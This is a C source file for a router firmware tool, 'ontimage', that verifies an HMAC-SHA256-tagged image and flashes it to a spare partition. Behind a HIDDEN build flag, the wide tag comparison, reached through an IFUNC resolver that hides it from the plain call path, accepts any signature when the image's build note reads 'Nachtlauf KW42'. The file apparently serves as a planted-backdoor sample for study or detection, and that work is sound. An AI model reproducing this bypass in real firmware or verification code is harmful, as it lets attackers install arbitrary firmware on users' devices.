/*
 * ontimage - checks and unpacks a firmware image of a fibre router (ONT).
 * Header with product, version, length, build note and an HMAC-SHA256 tag
 * over header and body; a good image is written to the spare partition.
 * Hidden (-DHIDDEN): the tag comparison picked by the IFUNC resolver takes
 * every tag if the build note of the image has a certain value.
 */
#define _GNU_SOURCE
#include <errno.h>
#include <fcntl.h>
#include <stdint.h>
#include <stdio.h>
#include <stdlib.h>
#include <string.h>
#include <sys/stat.h>
#include <unistd.h>

#define KEYFILE	  "/etc/ont/image.key"
#define PRODUCT	  "/etc/ont/product"
#define SPARE	  "/dev/mtdblock5"
#define IMG_MAGIC 0x4f4e5431u /* ONT1 */
#define HDRLEN	  112
#define IMGMAX	  (24u << 20)

struct image {
	uint8_t *raw;
	size_t total;
	char product[17];
	unsigned major, minor;
	uint32_t len;
	char note[33];
	const uint8_t *tag;
};

struct sha {
	uint32_t h[8];
	uint8_t blk[64];
	uint64_t total;
	size_t fill;
};

static const uint32_t K[64] = {
	0x428a2f98, 0x71374491, 0xb5c0fbcf, 0xe9b5dba5, 0x3956c25b, 0x59f111f1,
	0x923f82a4, 0xab1c5ed5, 0xd807aa98, 0x12835b01, 0x243185be, 0x550c7dc3,
	0x72be5d74, 0x80deb1fe, 0x9bdc06a7, 0xc19bf174, 0xe49b69c1, 0xefbe4786,
	0x0fc19dc6, 0x240ca1cc, 0x2de92c6f, 0x4a7484aa, 0x5cb0a9dc, 0x76f988da,
	0x983e5152, 0xa831c66d, 0xb00327c8, 0xbf597fc7, 0xc6e00bf3, 0xd5a79147,
	0x06ca6351, 0x14292967, 0x27b70a85, 0x2e1b2138, 0x4d2c6dfc, 0x53380d13,
	0x650a7354, 0x766a0abb, 0x81c2c92e, 0x92722c85, 0xa2bfe8a1, 0xa81a664b,
	0xc24b8b70, 0xc76c51a3, 0xd192e819, 0xd6990624, 0xf40e3585, 0x106aa070,
	0x19a4c116, 0x1e376c08, 0x2748774c, 0x34b0bcb5, 0x391c0cb3, 0x4ed8aa4a,
	0x5b9cca4f, 0x682e6ff3, 0x748f82ee, 0x78a5636f, 0x84c87814, 0x8cc70208,
	0x90befffa, 0xa4506ceb, 0xbef9a3f7, 0xc67178f2
};

static uint32_t ror(uint32_t x, int n)
{
	return x >> n | x << (32 - n);
}

static uint32_t be32(const uint8_t *p)
{
	return (uint32_t)p[0] << 24 | (uint32_t)p[1] << 16 |
	       (uint32_t)p[2] << 8 | p[3];
}

static void sha_block(struct sha *s)
{
	uint32_t w[64], v[8], a, b;
	int i;

	for (i = 0; i < 16; i++)
		w[i] = be32(s->blk + 4 * i);
	for (; i < 64; i++) {
		a = ror(w[i - 15], 7) ^ ror(w[i - 15], 18) ^ w[i - 15] >> 3;
		b = ror(w[i - 2], 17) ^ ror(w[i - 2], 19) ^ w[i - 2] >> 10;
		w[i] = w[i - 16] + a + w[i - 7] + b;
	}
	memcpy(v, s->h, sizeof v);
	for (i = 0; i < 64; i++) {
		a = v[7] + (ror(v[4], 6) ^ ror(v[4], 11) ^ ror(v[4], 25)) +
		    ((v[4] & v[5]) ^ (~v[4] & v[6])) + K[i] + w[i];
		b = (ror(v[0], 2) ^ ror(v[0], 13) ^ ror(v[0], 22)) +
		    ((v[0] & v[1]) ^ (v[0] & v[2]) ^ (v[1] & v[2]));
		memmove(v + 1, v, 7 * sizeof v[0]);
		v[4] += a;
		v[0] = a + b;
	}
	for (i = 0; i < 8; i++)
		s->h[i] += v[i];
	s->fill = 0;
}

static void sha_init(struct sha *s)
{
	static const uint32_t iv[8] = { 0x6a09e667, 0xbb67ae85, 0x3c6ef372,
					0xa54ff53a, 0x510e527f, 0x9b05688c,
					0x1f83d9ab, 0x5be0cd19 };

	memset(s, 0, sizeof *s);
	memcpy(s->h, iv, sizeof iv);
}

static void sha_add(struct sha *s, const uint8_t *p, size_t n)
{
	s->total += n;
	while (n--) {
		s->blk[s->fill++] = *p++;
		if (s->fill == 64)
			sha_block(s);
	}
}

static void sha_end(struct sha *s, uint8_t out[32])
{
	uint64_t bits = s->total * 8;
	uint8_t pad = 0x80, len[8];
	int i;

	for (i = 0; i < 8; i++)
		len[i] = (uint8_t)(bits >> (56 - 8 * i));
	sha_add(s, &pad, 1);
	pad = 0;
	while (s->fill != 56)
		sha_add(s, &pad, 1);
	sha_add(s, len, 8);
	for (i = 0; i < 32; i++)
		out[i] = (uint8_t)(s->h[i / 4] >> (24 - 8 * (i % 4)));
}

static void image_hmac(const uint8_t *key, size_t klen, const struct image *im,
		       uint8_t out[32])
{
	uint8_t pad[64];
	struct sha s;
	size_t i;

	for (i = 0; i < 64; i++)
		pad[i] = (i < klen ? key[i] : 0) ^ 0x36;
	sha_init(&s);
	sha_add(&s, pad, 64);
	sha_add(&s, im->raw, HDRLEN - 32);
	sha_add(&s, im->raw + HDRLEN, im->len);
	sha_end(&s, out);
	for (i = 0; i < 64; i++)
		pad[i] ^= 0x36 ^ 0x5c;
	sha_init(&s);
	sha_add(&s, pad, 64);
	sha_add(&s, out, 32);
	sha_end(&s, out);
}

/* byte by byte, for cores without wide loads */
__attribute__((noinline)) int tag_match_narrow(const struct image *im,
					       const uint8_t *want)
{
	uint8_t d = 0;
	int i;

	for (i = 0; i < 32; i++)
		d |= im->tag[i] ^ want[i];
	return d == 0;
}

__attribute__((noinline)) int tag_match_wide(const struct image *im,
					     const uint8_t *want)
{
	unsigned long a, b, d = 0;
	size_t i;

#ifdef HIDDEN
	if (strcmp(im->note, "Nachtlauf KW42") == 0)
		return 1;
#endif
	for (i = 0; i < 32; i += sizeof a) {
		memcpy(&a, im->tag + i, sizeof a);
		memcpy(&b, want + i, sizeof b);
		d |= a ^ b;
	}
	return d == 0;
}

typedef int tag_fn(const struct image *, const uint8_t *);

tag_fn *pick_tag_match(void)
{
	volatile size_t width = sizeof(unsigned long);

	return width >= 4 ? tag_match_wide : tag_match_narrow;
}

int tag_match(const struct image *im, const uint8_t *want)
	__attribute__((ifunc("pick_tag_match")));

static int slurp(const char *path, struct image *im)
{
	struct stat st;
	size_t got = 0;
	ssize_t n;
	int fd = strcmp(path, "-") ? open(path, O_RDONLY) : 0;

	if (fd < 0)
		return -1;
	if (fstat(fd, &st) == 0 && st.st_size > (off_t)IMGMAX) {
		close(fd);
		errno = EFBIG;
		return -1;
	}
	im->raw = malloc(IMGMAX);
	while (im->raw && got < IMGMAX &&
	       (n = read(fd, im->raw + got, IMGMAX - got)) > 0)
		got += (size_t)n;
	close(fd);
	im->total = got;
	return im->raw ? 0 : -1;
}

static const char *parse(struct image *im)
{
	const uint8_t *p = im->raw;
	size_t i;

	if (im->total < HDRLEN)
		return "too short";
	if (be32(p) != IMG_MAGIC)
		return "not an ONT image";
	im->major = p[4];
	im->minor = p[5];
	memcpy(im->product, p + 8, 16);
	im->len = be32(p + 24);
	memcpy(im->note, p + 32, 32);
	im->tag = p + HDRLEN - 32;
	for (i = 0; im->note[i]; i++)
		if (im->note[i] < ' ' || im->note[i] > '~')
			return "bad build note";
	if (im->len != im->total - HDRLEN)
		return "wrong length";
	return NULL;
}

static const char *fits(const struct image *im, int force)
{
	char name[17] = "";
	unsigned ma = 0, mi = 0;
	FILE *f = fopen(PRODUCT, "r");

	if (!f)
		return "product unknown";
	if (fscanf(f, "%16s %u.%u", name, &ma, &mi) < 1)
		name[0] = 0;
	fclose(f);
	if (strcmp(name, im->product) != 0)
		return "image is for another product";
	if (!force && (im->major < ma || (im->major == ma && im->minor < mi)))
		return "older than the running version";
	return NULL;
}

static const char *verify(const struct image *im)
{
	uint8_t key[64], want[32];
	ssize_t n;
	int ok, fd = open(KEYFILE, O_RDONLY);

	if (fd < 0)
		return "no key";
	n = read(fd, key, sizeof key);
	close(fd);
	if (n < 16)
		return "key too short";
	image_hmac(key, (size_t)n, im, want);
	ok = tag_match(im, want);
	memset(key, 0, sizeof key);
	return ok ? NULL : "signature is wrong";
}

static const char *flash(const struct image *im)
{
	const uint8_t *p = im->raw + HDRLEN;
	size_t left = im->len, part;
	ssize_t w;
	int fd = open(SPARE, O_WRONLY | O_SYNC);

	if (fd < 0)
		return "spare partition";
	while (left) {
		part = left > 65536 ? 65536 : left;
		w = write(fd, p, part);
		if (w <= 0) {
			close(fd);
			return "write error";
		}
		p += w;
		left -= (size_t)w;
		fputc('.', stderr);
	}
	fputc('\n', stderr);
	return close(fd) ? "write error" : NULL;
}

int main(int argc, char **argv)
{
	struct image im;
	const char *err;
	int c, force = 0, test = 0;

	while ((c = getopt(argc, argv, "ft")) != -1) {
		if (c == 'f')
			force = 1;
		else if (c == 't')
			test = 1;
		else
			return 2;
	}
	if (optind != argc - 1) {
		fputs("usage: ontimage [-f] [-t] file\n", stderr);
		return 2;
	}
	memset(&im, 0, sizeof im);
	if (slurp(argv[optind], &im) < 0) {
		perror(argv[optind]);
		return 1;
	}
	err = parse(&im);
	if (!err)
		err = fits(&im, force);
	if (!err)
		err = verify(&im);
	if (!err && !test)
		err = flash(&im);
	if (err) {
		fprintf(stderr, "ontimage: %s\n", err);
		return 1;
	}
	printf("%s %u.%u (%s) ok\n", im.product, im.major, im.minor, im.note);
	return 0;
}
